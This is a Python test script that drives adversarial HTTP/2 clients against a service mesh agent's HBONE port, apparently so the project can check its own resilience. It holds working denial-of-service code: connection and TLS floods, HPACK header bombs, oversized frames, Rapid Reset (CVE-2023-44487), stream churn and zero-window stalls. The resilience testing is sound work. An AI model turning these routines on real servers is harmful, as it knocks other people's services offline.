#!/usr/bin/python3
"""Adversarial HBONE clients for test/netns/adversarial-hbone.test.ts, against a pod's 15008. Run with /usr/bin/python3
(Debian's python3-h2 and python3-hpack). Prints one JSON line and never raises (errors go in "error").
One file of about 700 lines on purpose: the tests run it with `python3 -I` inside a pod's netns, as one script.

  flood  --connect IP:PORT --idle N --stalled M [--wait S]
         N TCP connections that send nothing and M that send a TLS ClientHello and then nothing; waits up to S seconds
         for the server to close them and reports how many it closed and when (seconds after each was opened).
  bomb   --connect IP:PORT --ca --cert --key --kind hpack|big|under|frame|oversize --authority IP:PORT [--timeout S]
         Raw HTTP/2 on mutual TLS: stream 1 carries the header bomb (hpack: one 4,000-byte header inserted in the HPACK
         table and referenced ~12,000 times in one 16 KB frame, ~49 MB decoded; big: 70 KiB of distinct headers in
         HEADERS + CONTINUATION; under: 60 KiB, inside the 64 KiB limit, CONNECT to --authority). Then stream 3, on the
         same connection, a plain CONNECT to --authority that writes "bomb-check\\n" and waits for "pong:bomb-check".
         frame: one HEADERS frame of exactly 1 MiB (the advertised frame size) of distinct headers; oversize: 1 MiB + 1
         byte, a connection error, so the check runs on a new connection.
  flow   --connect IP:PORT --ca --cert --key --stall-authority IP:PORT --authority IP:PORT [--rounds R] [--streams K]
         [--graceful]
         R rounds of K CONNECT streams to an upstream that never reads, each sending until flow control stops it, then
         reset (or, with --graceful, ended in order and left); then one stream to --authority (an echo) on the same
         connection, timing how long "flow-check" takes to come back.
  rapid  --connect --ca --cert --key --target IP:PORT --authority IP:PORT --count N [--batch B] [--max-seconds S]
         Rapid reset (CVE-2023-44487): N streams, each a CONNECT to --target immediately followed by RST_STREAM(CANCEL),
         written B pairs at a time without waiting for answers; a connection the server closes (GOAWAY) is replaced by
         a new one. Then, on a new connection, a check stream to --authority (the echo), timed from the handshake.
  churn  (same options) N streams opened in batches of B, each waiting for the server's answer (200 once the upstream
         connected), then all reset; then the same check.
  window --connect --ca --cert --key --target IP:PORT --authority IP:PORT [--connections C] [--streams K] [--hold S]
         Our SETTINGS say INITIAL_WINDOW_SIZE 0 and we never send WINDOW_UPDATE: C connections with K CONNECT streams
         each to --target (an upstream that writes without end), held S seconds (PINGs answered, DATA never allowed);
         then the connections are closed and a check stream runs on a new connection.
  serve-discard --port P   an upstream that reads and drops everything on every connection, closing on EOF.
  serve-source  --port P   an upstream that writes zeros on every connection as fast as the connection takes them.
"""
import argparse
import json
import resource
import select
import selectors
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 8
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
MAX_FRAME = 1024 * 1024  # the SETTINGS_MAX_FRAME_SIZE the agent advertises (HTTP2_SETTINGS.maxFrameSize, agent/src/hbone/settings.ts)


def raise_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def flood(a, out):
    raise_nofile()
    host, port = a.connect.rsplit(":", 1)
    sel = selectors.DefaultSelector()
    opened = {}
    closed_after = []
    failed = 0
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])

    def drain(timeout):
        for key, _ in sel.select(timeout=timeout):
            s = key.fileobj
            try:
                d = s.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                d = b""
            if d:
                continue  # the server's handshake flight: keep waiting for the close
            closed_after.append(time.monotonic() - opened.pop(s))
            sel.unregister(s)
            s.close()

    started = time.monotonic()
    for i in range(a.idle + a.stalled):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(15)  # a full accept queue drops SYNs: let the kernel's retries (1, 3, 7 s) get through
        try:
            s.connect((host, int(port)))
        except OSError:
            failed += 1
            s.close()
            continue
        if i >= a.idle:
            # A ClientHello, then silence: the server answers and waits for our Finished forever (or its deadline).
            bio_in, bio_out = ssl.MemoryBIO(), ssl.MemoryBIO()
            obj = ctx.wrap_bio(bio_in, bio_out, server_side=False)
            try:
                obj.do_handshake()
            except ssl.SSLWantReadError:
                pass
            try:
                s.sendall(bio_out.read())
            except OSError:  # already reset by the server (over its cap): closed at once
                closed_after.append(0.0)
                s.close()
                continue
        s.setblocking(False)
        opened[s] = time.monotonic()
        sel.register(s, selectors.EVENT_READ)
        drain(0)  # closes seen while still opening are timed too
    out["open_seconds"] = round(time.monotonic() - started, 3)
    out["opened"] = len(opened) + len(closed_after)
    out["connect_failed"] = failed
    deadline = time.monotonic() + a.wait
    while opened and time.monotonic() < deadline:
        drain(0.2)
    out["closed"] = len(closed_after)
    out["still_open"] = len(opened)
    closed_after.sort()
    if closed_after:
        out["closed_within_1s"] = sum(1 for x in closed_after if x < 1)
        out["closed_within_5s"] = sum(1 for x in closed_after if x < 5)
        out["close_p50"] = round(closed_after[len(closed_after) // 2], 3)
        out["close_max"] = round(closed_after[-1], 3)
    for s in opened:
        s.close()


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value, indexed_name=None, incremental=False):
    """A literal header field (never a reference to our own table entries, except the bomb's on purpose)."""
    v = value.encode() if isinstance(value, str) else value
    if indexed_name is not None:
        head = hpack_int(indexed_name, 6, 0x40) if incremental else hpack_int(indexed_name, 4, 0x00)
        return head + hpack_int(len(v), 7) + v
    n = name.encode()
    return (b"\x40" if incremental else b"\x00") + hpack_int(len(n), 7) + n + hpack_int(len(v), 7) + v


def connect_block(authority):
    return literal(None, "CONNECT", indexed_name=2) + literal(None, authority, indexed_name=1)


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


class Raw:
    """Just enough HTTP/2 over TLS to send hand-made header blocks and read what comes back."""

    def __init__(self, a, settings=b"", window_updates=True):
        import hpack  # Debian python3-hpack, a dependency of python3-h2

        host, port = a.connect.rsplit(":", 1)
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.minimum_version = ssl.TLSVersion.TLSv1_3
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_REQUIRED
        ctx.load_verify_locations(a.ca)
        ctx.load_cert_chain(a.cert, a.key)
        ctx.set_alpn_protocols(["h2"])
        self.tls = ctx.wrap_socket(socket.create_connection((host, int(port)), timeout=a.timeout), server_hostname=None)
        self.dec = hpack.Decoder()
        self.dec.max_allowed_table_size = 65536
        self.buf = b""
        self.timeout = a.timeout
        self.window_updates = window_updates
        self.status, self.reset, self.data, self.goaway = {}, {}, {}, None
        self.data_bytes = 0
        self.closed = False
        self.tls.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, b):
        self.tls.sendall(b)

    def pump(self, until, timeout):
        """Reads frames until until() is true or timeout seconds pass; False on timeout or EOF."""
        deadline = time.monotonic() + timeout
        while not until():
            remaining = deadline - time.monotonic()
            if remaining <= 0 or self.closed:
                return False
            self.tls.settimeout(remaining)
            try:
                d = self.tls.recv(65536)
            except socket.timeout:
                return False
            except OSError:
                self.eof()
                return False
            if not d:
                self.eof()
                return False
            self.feed(d)
        return True

    def eof(self):
        self.closed = True
        self.goaway = self.goaway if self.goaway is not None else -1

    def feed(self, d):
        self.buf += d
        while len(self.buf) >= 9:
            ln = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + ln:
                break
            ftype, flags = self.buf[3], self.buf[4]
            sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            p = self.buf[9:9 + ln]
            self.buf = self.buf[9 + ln:]
            self.on_frame(ftype, flags, sid, p)

    def send_reading(self, b, timeout):
        """Writes b while reading what the server sends meanwhile (a server that stops reading while its answers pile
        up in our receive buffer would otherwise deadlock with a blocking write). OSError when the connection is gone."""
        deadline = time.monotonic() + timeout
        self.tls.setblocking(False)
        try:
            while True:
                try:
                    self.tls.send(b)  # no partial writes: all of b, or a retry with the same b
                    return
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                    pass
                if time.monotonic() > deadline:
                    raise TimeoutError("send timed out")
                select.select([self.tls], [self.tls], [], 0.05)
                self.tls.settimeout(self.timeout)
                self.drain()
                self.tls.setblocking(False)
                if self.closed:
                    raise ConnectionResetError("closed by the server")
        finally:
            self.tls.settimeout(self.timeout)

    def drain(self):
        """Reads whatever has arrived, without waiting."""
        self.tls.setblocking(False)
        try:
            while not self.closed:
                try:
                    d = self.tls.recv(65536)
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                    break
                except OSError:
                    self.eof()
                    break
                if not d:
                    self.eof()
                    break
                self.feed(d)
        finally:
            self.tls.settimeout(self.timeout)

    def close(self):
        try:
            self.tls.close()
        except OSError:
            pass

    def reply(self, b):
        """A frame the protocol makes us send back (ACKs, window updates) from inside a read: the server may already have
        closed the connection (a GOAWAY right after its SETTINGS), which ends it here instead of raising from a read."""
        before = self.tls.gettimeout()  # 0.0 inside a non-blocking read loop: the reply itself is written blocking
        self.tls.settimeout(self.timeout)
        try:
            self.tls.sendall(b)
        except OSError:
            self.eof()
        finally:
            self.tls.settimeout(before)

    def on_frame(self, ftype, flags, sid, p):
        if ftype == SETTINGS and not flags & ACK:
            self.reply(frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK:
            self.reply(frame(PING, ACK, 0, p))
        elif ftype == HEADERS:
            block = p
            if flags & 0x8:  # PADDED
                block = block[1:len(block) - block[0]]
            if flags & 0x20:  # PRIORITY
                block = block[5:]
            for k, v in self.dec.decode(block):
                if k in (":status", b":status"):
                    self.status[sid] = int(v)
        elif ftype == DATA:
            self.data_bytes += len(p)
            if self.window_updates:
                self.data[sid] = self.data.get(sid, b"") + p
            if p and self.window_updates:
                inc = struct.pack(">I", len(p))
                self.reply(frame(WINDOW_UPDATE, 0, 0, inc) + frame(WINDOW_UPDATE, 0, sid, inc))
        elif ftype == RST_STREAM:
            self.reset[sid] = int.from_bytes(p[:4], "big")
        elif ftype == GOAWAY:
            self.goaway = int.from_bytes(p[4:8], "big")
            self.goaway_last = int.from_bytes(p[0:4], "big") & 0x7FFFFFFF

    def check_stream(self, sid, authority, text, timeout):
        """A plain CONNECT on stream sid that sends text and waits for pong:text; returns (ok, seconds)."""
        t0 = time.monotonic()
        self.send(frame(HEADERS, END_HEADERS, sid, connect_block(authority)))
        if not self.pump(lambda: sid in self.status or sid in self.reset, timeout) or self.status.get(sid) != 200:
            return False, round(time.monotonic() - t0, 3)
        self.send(frame(DATA, 0, sid, (text + "\n").encode()))
        ok = self.pump(lambda: ("pong:" + text).encode() in self.data.get(sid, b"") or sid in self.reset, timeout)
        return ok and sid not in self.reset, round(time.monotonic() - t0, 3)


def bomb_frames(a, out):
    """The HEADERS (and CONTINUATION) frames of one --kind of header bomb on stream 1, built before the clock starts."""
    if a.kind == "hpack":
        block = connect_block(a.authority) + literal("x-bomb", "a" * 4000, incremental=True)
        refs = 16384 - len(block)
        block += b"\xbe" * refs  # indexed field 62: the entry just inserted
        out["decoded_bytes"] = refs * (6 + 4000)
        return [frame(HEADERS, END_HEADERS, 1, block)]
    if a.kind in ("frame", "oversize"):
        # One HEADERS frame of exactly the 1 MiB frame size the server advertises (frame), or one byte more (oversize):
        # ~1,000 distinct 1,000-byte headers, 16 times the header list limit.
        size = MAX_FRAME + (1 if a.kind == "oversize" else 0)
        parts = [connect_block(a.authority)]
        length = len(parts[0])
        i = 0
        while length < size - 1100:
            parts.append(literal("x-f-%04d" % i, "v" * 1000))
            length += len(parts[-1])
            i += 1
        room = size - length
        parts.append(next(p for p in (literal("x-pad", "p" * (room - 7 - k)) for k in range(1, 5)) if len(p) == room))
        out["decoded_bytes"] = size
        return [frame(HEADERS, END_HEADERS, 1, b"".join(parts))]
    count = 70 if a.kind == "big" else 58
    block = connect_block(a.authority) + b"".join(literal("x-h-%03d" % i, "v" * 1000) for i in range(count))
    out["decoded_bytes"] = count * (7 + 1000 + 32)
    chunks = [block[i:i + 16000] for i in range(0, len(block), 16000)]
    return [frame(HEADERS if i == 0 else CONTINUATION, END_HEADERS if i == len(chunks) - 1 else 0, 1, ch)
            for i, ch in enumerate(chunks)]


def bomb(a, out):
    c = Raw(a)
    c.pump(lambda: False, 0.3)  # the server's SETTINGS (acknowledged by on_frame)
    frames = bomb_frames(a, out)
    t0 = time.monotonic()
    try:
        for f in frames:
            c.send(f)
    except OSError:
        if a.kind != "oversize":
            raise
        c.eof()  # oversize: the server may close before it has read the whole frame
    answered = c.pump(lambda: 1 in c.reset or 1 in c.status, a.timeout)
    out["answer_seconds"] = round(time.monotonic() - t0, 3)
    out["bomb_reset"] = c.reset.get(1)
    out["bomb_status"] = c.status.get(1)
    out["bomb_answered"] = answered
    if a.kind == "oversize":
        # A frame over the advertised size is a connection error: expect GOAWAY (or the close) and check on a new one.
        c.pump(lambda: c.goaway is not None, a.timeout)
        out["bomb_goaway"] = c.goaway
        c.close()
        c = Raw(a)
        c.pump(lambda: False, 0.1)
        ok, secs = c.check_stream(1, a.authority, "bomb-check", a.timeout)
        out["check_ok"], out["check_seconds"], out["goaway"] = ok, secs, c.goaway
        return
    ok, secs = c.check_stream(3, a.authority, "bomb-check", a.timeout)
    out["check_ok"], out["check_seconds"], out["goaway"] = ok, secs, c.goaway


def flow(a, out):
    import h2.config
    import h2.connection
    import h2.events

    host, port = a.connect.rsplit(":", 1)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    ctx.check_hostname = False
    ctx.load_verify_locations(a.ca)
    ctx.load_cert_chain(a.cert, a.key)
    ctx.set_alpn_protocols(["h2"])
    tls = ctx.wrap_socket(socket.create_connection((host, int(port)), timeout=a.timeout), server_hostname=None)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, validate_outbound_headers=False))
    conn.initiate_connection()
    st = {"status": {}, "reset": {}, "data": {}, "goaway": None}

    def send():
        # pump() leaves a read timeout as short as 50 ms on the socket; a write under it fails whenever the agent
        # takes longer to drain its receive buffer (seen on the Node path): writes get the whole --timeout.
        tls.settimeout(a.timeout)
        tls.sendall(conn.data_to_send())

    send()

    def pump(until, timeout):
        deadline = time.monotonic() + timeout
        while not until():
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                return False
            tls.settimeout(remaining)
            try:
                d = tls.recv(65536)
            except socket.timeout:
                return False
            if not d:
                st["goaway"] = st["goaway"] if st["goaway"] is not None else -1
                return False
            for ev in conn.receive_data(d):
                if isinstance(ev, h2.events.ResponseReceived):
                    st["status"][ev.stream_id] = int(dict(ev.headers)[b":status"])
                elif isinstance(ev, h2.events.DataReceived):
                    conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                    st["data"][ev.stream_id] = st["data"].get(ev.stream_id, b"") + ev.data
                elif isinstance(ev, h2.events.StreamReset):
                    st["reset"][ev.stream_id] = int(ev.error_code)
                elif isinstance(ev, h2.events.ConnectionTerminated):
                    st["goaway"] = int(ev.error_code)
            send()
        return True

    pump(lambda: False, 0.3)
    chunk = b"\0" * MAX_FRAME  # as much as the stream's window allows per round trip: a 16 KiB chunk took ~20 s a round
    sent_total = 0
    rounds = []
    for r in range(a.rounds):
        sids = []
        for _ in range(a.streams):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, [(":method", "CONNECT"), (":authority", a.stall_authority)])
            sids.append(sid)
        send()
        pump(lambda: all(s in st["status"] or s in st["reset"] for s in sids), a.timeout)
        sent = 0
        # Send on every stream until flow control stops all of them (the upstream never reads).
        stalled_since = time.monotonic()
        while time.monotonic() - stalled_since < 1.0:
            progressed = False
            for sid in sids:
                if st["status"].get(sid) != 200 or sid in st["reset"]:
                    continue
                try:
                    n = min(len(chunk), conn.local_flow_control_window(sid), conn.max_outbound_frame_size)
                except Exception:  # noqa: BLE001 - a closed stream
                    continue
                if n > 0:
                    conn.send_data(sid, chunk[:n])
                    sent += n
                    progressed = True
            send()
            pump(lambda: False, 0.05 if progressed else 0.2)
            if progressed:
                stalled_since = time.monotonic()
        for sid in sids:
            if sid in st["reset"]:
                continue
            if a.graceful:
                conn.end_stream(sid)
            else:
                conn.reset_stream(sid, 8)  # CANCEL
        send()
        pump(lambda: False, 0.3)
        sent_total += sent
        rounds.append({"streams": len(sids), "sent": sent, "statuses": [st["status"].get(s) for s in sids]})
    out["rounds"] = rounds
    out["sent_total"] = sent_total
    out["connection_window_left"] = conn.outbound_flow_control_window
    # The check: a new stream on the same connection, to an echo.
    if a.linger:
        pump(lambda: False, a.linger)
    t0 = time.monotonic()
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, [(":method", "CONNECT"), (":authority", a.authority)])
    send()
    ok = pump(lambda: sid in st["status"] or sid in st["reset"], a.timeout) and st["status"].get(sid) == 200
    # Room for the 11 bytes: on a connection whose credit leaked, this is where it would wait forever.
    ok = ok and pump(lambda: min(conn.local_flow_control_window(sid), conn.outbound_flow_control_window) >= 11, a.timeout)
    if ok:
        conn.send_data(sid, b"flow-check\n")
        send()
        ok = pump(lambda: b"pong:flow-check" in st["data"].get(sid, b"") or sid in st["reset"], a.timeout)
        ok = ok and sid not in st["reset"]
    out["check_ok"] = bool(ok)
    out["check_seconds"] = round(time.monotonic() - t0, 3)
    out["check_status"] = st["status"].get(sid)
    out["goaway"] = st["goaway"]
    tls.close()


def reconnect(a, out):
    """A new attack connection, or None when the server ends it during the handshake or preface (counted in
    out["connect_errors"], the first few messages kept): under attack a server may shed a connection; the caller goes on."""
    try:
        return Raw(a)
    except OSError as e:
        out["connect_errors"] = out.get("connect_errors", 0) + 1
        out.setdefault("connect_error_messages", [])
        if len(out["connect_error_messages"]) < 5:
            out["connect_error_messages"].append("%s: %s" % (type(e).__name__, e))
        time.sleep(0.05)
        return None


def check_after(a, c, out):
    """Closes the attack's connection, then a check stream to the echo on a new one (from handshake to answer)."""
    if c is not None:
        c.close()
    t0 = time.monotonic()
    c = Raw(a)
    c.pump(lambda: False, 0.1)
    ok, _ = c.check_stream(1, a.authority, "attack-check", a.timeout)
    out["check_ok"], out["check_seconds"] = ok, round(time.monotonic() - t0, 3)
    c.close()


def rapid(a, out):
    block = connect_block(a.target)
    t0 = time.monotonic()
    c, sid, sent, conns, goaways, answered, resets = None, 1, 0, 0, [], 0, 0
    while sent < a.count and time.monotonic() - t0 < a.max_seconds:
        if c is None or c.closed or c.goaway is not None:
            if c is not None:
                goaways.append(c.goaway)
                answered, resets = answered + len(c.status), resets + len(c.reset)
                c.close()
            c, sid = reconnect(a, out), 1
            if c is None:
                continue
            conns += 1
        n = min(a.batch, a.count - sent)
        burst = b"".join(frame(HEADERS, END_HEADERS, sid + 2 * i, block) + frame(RST_STREAM, 0, sid + 2 * i, struct.pack(">I", CANCEL))
                         for i in range(n))
        try:
            c.send_reading(burst, a.timeout)
        except OSError:
            c.eof()
            continue
        sid += 2 * n
        sent += n
        c.drain()
    out["seconds"] = round(time.monotonic() - t0, 3)
    out["sent"] = sent
    out["rate_per_s"] = round(sent / max(out["seconds"], 1e-6))
    if c is not None:
        c.pump(lambda: False, 0.3)
        if c.closed or c.goaway is not None:
            goaways.append(c.goaway)
    last_status, last_reset = (c.status, c.reset) if c is not None else ({}, {})
    out["answered_200"] = answered + sum(1 for v in last_status.values() if v == 200)
    out["server_resets"] = resets + len(last_reset)
    out["connections"] = conns
    out["goaways"] = goaways
    check_after(a, c, out)


def churn(a, out):
    block = connect_block(a.target)
    t0 = time.monotonic()
    c, sid, opened, conns, refused, lost = None, 1, 0, 0, 0, 0
    goaways = []
    while opened + refused + lost < a.count and time.monotonic() - t0 < a.max_seconds:
        if c is None or c.closed or c.goaway is not None:
            if c is not None:
                goaways.append(c.goaway)
                c.close()
            c, sid = reconnect(a, out), 1
            if c is None:
                continue
            conns += 1
        n = min(a.batch, a.count - opened - refused - lost)
        sids = [sid + 2 * i for i in range(n)]
        sid += 2 * n
        try:
            c.send_reading(b"".join(frame(HEADERS, END_HEADERS, s, block) for s in sids), a.timeout)
            # A GOAWAY ends the wait: the streams above its last id will never be answered.
            c.pump(lambda: c.goaway is not None or all(s in c.status or s in c.reset for s in sids), a.timeout)
            ok = [s for s in sids if c.status.get(s) == 200 and s not in c.reset]
            opened += len(ok)
            refused += sum(1 for s in sids if s in c.reset or (s in c.status and c.status[s] != 200))
            lost += sum(1 for s in sids if s not in c.reset and s not in c.status)
            c.send_reading(b"".join(frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL)) for s in ok), a.timeout)
            for s in sids:  # keep the bookkeeping small
                c.status.pop(s, None)
                c.reset.pop(s, None)
            c.drain()
        except OSError:
            c.eof()
    out["seconds"] = round(time.monotonic() - t0, 3)
    out["opened_and_reset"] = opened
    out["refused"] = refused
    out["unanswered"] = lost
    out["connections"] = conns
    if c is not None:
        c.pump(lambda: False, 0.3)
        if c.closed or c.goaway is not None:
            goaways.append(c.goaway)
    out["goaways"] = goaways
    check_after(a, c, out)


def window(a, out):
    block = connect_block(a.target)
    zero = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0)
    conns = []
    for _ in range(a.connections):
        c = Raw(a, settings=zero, window_updates=False)
        sids = [1 + 2 * i for i in range(a.streams)]
        c.send(b"".join(frame(HEADERS, END_HEADERS, s, block) for s in sids))
        c.pump(lambda: all(s in c.status or s in c.reset for s in sids), a.timeout)
        conns.append(c)
    out["answered_200"] = sum(1 for c in conns for v in c.status.values() if v == 200)
    t0 = time.monotonic()
    while time.monotonic() - t0 < a.hold:
        for c in conns:
            c.drain()  # answers PINGs and SETTINGS; DATA is never allowed, so never acknowledged
        time.sleep(0.1)
    out["held_seconds"] = round(time.monotonic() - t0, 3)
    out["data_bytes_received"] = sum(c.data_bytes for c in conns)
    out["server_resets"] = sum(len(c.reset) for c in conns)
    out["goaways"] = [c.goaway for c in conns if c.goaway is not None]
    for c in conns:
        c.close()
    check_after(a, None, out)


def serve(a, out):
    """serve-discard / serve-source: a select loop over every accepted connection, forever."""
    raise_nofile()
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("0.0.0.0", a.port))
    srv.listen(4096)
    srv.setblocking(False)
    sel = selectors.DefaultSelector()
    sel.register(srv, selectors.EVENT_READ)
    source = a.mode == "serve-source"
    zeros = b"\0" * 65536
    while True:
        for key, _ in sel.select():
            s = key.fileobj
            if s is srv:
                try:
                    conn, _ = srv.accept()
                except OSError:
                    continue
                conn.setblocking(False)
                sel.register(conn, selectors.EVENT_READ | (selectors.EVENT_WRITE if source else 0))
                continue
            try:
                d = s.recv(65536)
            except BlockingIOError:
                d = None
            except OSError:
                d = b""
            if d == b"":
                sel.unregister(s)
                s.close()
                continue
            if source:
                try:
                    s.send(zeros)
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    sel.unregister(s)
                    s.close()


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["flood", "bomb", "flow", "rapid", "churn", "window", "serve-discard", "serve-source"])
    ap.add_argument("--connect")
    ap.add_argument("--port", type=int)
    ap.add_argument("--target")
    ap.add_argument("--count", type=int, default=10000)
    ap.add_argument("--batch", type=int, default=100)
    ap.add_argument("--max-seconds", type=float, default=60.0)
    ap.add_argument("--connections", type=int, default=2)
    ap.add_argument("--hold", type=float, default=10.0)
    ap.add_argument("--idle", type=int, default=0)
    ap.add_argument("--stalled", type=int, default=0)
    ap.add_argument("--wait", type=float, default=20.0)
    ap.add_argument("--ca")
    ap.add_argument("--cert")
    ap.add_argument("--key")
    ap.add_argument("--kind", choices=["hpack", "big", "under", "frame", "oversize"], default="hpack")
    ap.add_argument("--authority")
    ap.add_argument("--stall-authority")
    ap.add_argument("--rounds", type=int, default=3)
    ap.add_argument("--streams", type=int, default=4)
    ap.add_argument("--graceful", action="store_true")
    ap.add_argument("--linger", type=float, default=0.0)
    ap.add_argument("--timeout", type=float, default=10.0)
    a = ap.parse_args()
    out = {"mode": a.mode, "error": None}
    try:
        modes = {"flood": flood, "bomb": bomb, "flow": flow, "rapid": rapid, "churn": churn, "window": window,
                 "serve-discard": serve, "serve-source": serve}
        modes[a.mode](a, out)
    except Exception as e:  # noqa: BLE001 - the caller reads the error from the JSON line
        out["error"] = f"{type(e).__name__}: {e}"
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
